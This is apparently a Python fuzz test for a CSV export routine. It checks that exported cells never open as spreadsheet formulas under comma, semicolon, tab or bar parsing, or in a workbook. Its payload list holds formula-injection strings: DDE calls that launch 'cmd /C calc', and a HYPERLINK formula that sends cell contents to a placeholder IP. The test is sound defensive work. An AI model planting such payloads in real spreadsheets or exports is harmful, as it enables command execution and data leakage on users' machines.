"""Promise 23: what Marko writes for spreadsheets is safe to open, by whatever sign it parts cells.

Each cell is written into a ``rejects.csv`` among others, which is then opened as spreadsheets do: parted
at commas, and at semicolons, tabs and bars as in other countries. No cell may begin like a formula, read
as a spreadsheet writes it into a workbook either, and every cell must come back as it was.
"""

import csv
import io
import random
import re
from collections.abc import Iterator

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from engine.intake.safe_cells import as_it_was, rejects_csv
from engine.models.export import Rejected
from torture.result import Result, counted

SEED = 23
BATCH = 50
PARTED_BY = (",", ";", "\t", "|")
BEGINNINGS = (
    "", " ", "  ", "\xa0", "\u202f", "\u2009", "\u3000", "\t", "\r", "\n", "\r\n", " \n ", "\ufeff", "\u200b",
    "\x00", "\x1b", '"', "'", "''", ";", ",", "|", '";"', "x;", "x, ", "x\t", 'x"', "x\n", "5;", "-5,", "' ",
    "=", "\u2028",
)  # fmt: skip
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "%", "")
COMMANDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://198.51.100.7/?"&A1,"press")',
    "SUM(A1:A9)", "WEBSERVICE(A1)", 'IMPORTXML(CONCAT("x",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"a\")",
    "-1", "5", "5.2", "3 %", "5;=1", "5+1", "5 -1", "5e5", "5,2", "spring-sale", "x", "", "'",
    "1\n=2", "5\n6", "5\t6",
)  # fmt: skip
NUMBERS = ("-5", "-5.2", "+3 %", "-1,234.50", "+3%", "-1.5E+05")
# Written anew on purpose: what the promise says, not what our own code thinks of it.
_BEGINS = re.compile(r"[\s\x00-\x20\xa0\u200b\ufeff]*[=+\-@＝＋－＠]")
_NUMBER = re.compile(r"\s*[+-] ?\d[\d.,' \xa0]*([eE][+-]?\d+)?[ \xa0]?%?\s*")


def run(times: int) -> Result:
    """Write ``times`` hostile cells, and open the files in every way."""
    dice = random.Random(SEED)  # noqa: S311
    cells = [_cell(dice, number) for number in range(times)]
    faults: list[str] = []
    for start in range(0, times, BATCH):
        faults += _opened(cells[start : start + BATCH])
    faults += [f"{number} became {shown!r}" for number in NUMBERS if (shown := _only(number)) != number]
    return counted(times, faults)


def _cell(dice: random.Random, number: int) -> str:
    if number % 10 == 0:
        return "".join(dice.choices("=+-@\t\r\n ;,|\"'5.x", k=dice.randrange(1, 12)))
    parts = (BEGINNINGS, SIGNS, COMMANDS) if number % 3 else (BEGINNINGS, BEGINNINGS, SIGNS, COMMANDS)
    return "".join(dice.choice(part) for part in parts)


def _file(cells: list[str]) -> str:
    rejects = [Rejected(line=17, column=cell, value=cell, rule="not negative") for cell in cells]
    return rejects_csv(rejects).decode("utf-8-sig")


def _only(cell: str) -> str:
    return next(iter(list(csv.reader(io.StringIO(_file([cell]), newline="")))[1:]))[2]


def _opened(cells: list[str]) -> Iterator[str]:
    text = _file(cells)
    for sign in PARTED_BY:
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            yield from (f"parted by {sign!r}, {each!r} acts" for each in row if _acts(each, parted=sign))
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    read = [as_it_was(row[2]) for row in rows]
    yield from (
        f"{cell!r} came back as {back!r}" for cell, back in zip(cells, read, strict=True) if cell != back
    )
    yield from _in_a_workbook(row[2] for row in rows)


def _acts(cell: str, *, parted: str) -> bool:
    """Say whether a spreadsheet may take a cell for a formula. A whole one may not begin with a tab."""
    begins = parted == "," and cell[:1] in ("\t", "\r")
    return begins or bool(_BEGINS.match(cell) and not _NUMBER.fullmatch(cell))


def _in_a_workbook(cells: Iterator[str]) -> Iterator[str]:
    sheet = Workbook().active
    assert sheet is not None
    for place, cell in enumerate(cells, 1):
        kept = sheet.cell(place, 1, ILLEGAL_CHARACTERS_RE.sub("", cell))
        if kept.data_type == "f":
            yield f"{cell!r} is a formula in a workbook"
